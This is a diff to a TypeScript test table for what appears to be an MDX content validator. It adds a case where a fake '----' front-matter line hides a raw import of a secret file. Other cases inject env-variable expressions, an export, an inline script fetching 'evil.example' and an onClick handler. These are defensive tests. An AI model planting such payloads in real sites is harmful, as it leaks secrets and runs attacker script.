@@ -101,6 +101,12 @@ const cases: Case[] = [
   { name: 'attack: process.env', attack: true, edit: (r) => appendTo(r, 'content/pieces/case.mdx', '\nEnv: {process.env.TAILOR_PLANTED}\n'), expect: ['content/pieces/case.mdx:', '{process.env.TAILOR_PLANTED}', 'expressions are not allowed'] },
   { name: 'attack: import.meta.env', attack: true, edit: (r) => appendTo(r, 'content/pieces/case.mdx', '\nEnv: {import.meta.env.TAILOR_PLANTED}\n'), expect: ['content/pieces/case.mdx:', 'expressions are not allowed'] },
   { name: 'attack: code in a prop', attack: true, edit: (r) => appendTo(r, 'content/pieces/roi.mdx', '\n<Account field={process.env.TAILOR_PLANTED} />\n'), expect: ['content/pieces/roi.mdx:', 'only literal values'] },
+  {
+    name: 'attack: a body hidden behind a "----" front-matter line',
+    attack: true,
+    edit: (r) => replaceIn(r, 'content/pieces/case.mdx', 'cta: { label: Talk to us, kind: contact }\n---\n', "cta: { label: Talk to us, kind: contact }\n----\nimport key from '../../.tailor/link-secret?raw';\n\nKey: {key}\n---\n"),
+    expect: ['content/pieces/case.mdx:', 'import and export are not allowed'],
+  },
   { name: 'attack: export', attack: true, edit: (r) => appendTo(r, 'content/pieces/case.mdx', "\nexport const leak = 'x';\n"), expect: ['content/pieces/case.mdx:', 'import and export are not allowed'] },
   { name: '<script> in a piece', edit: (r) => appendTo(r, 'content/pieces/case.mdx', '\n<script>fetch("https://evil.example")</script>\n'), expect: ['content/pieces/case.mdx:', '<script>'] },
   { name: 'on* attribute', edit: (r) => appendTo(r, 'content/pieces/case.mdx', '\n<span onClick="alert(1)">x</span>\n'), expect: ['content/pieces/case.mdx:', 'onClick'] },
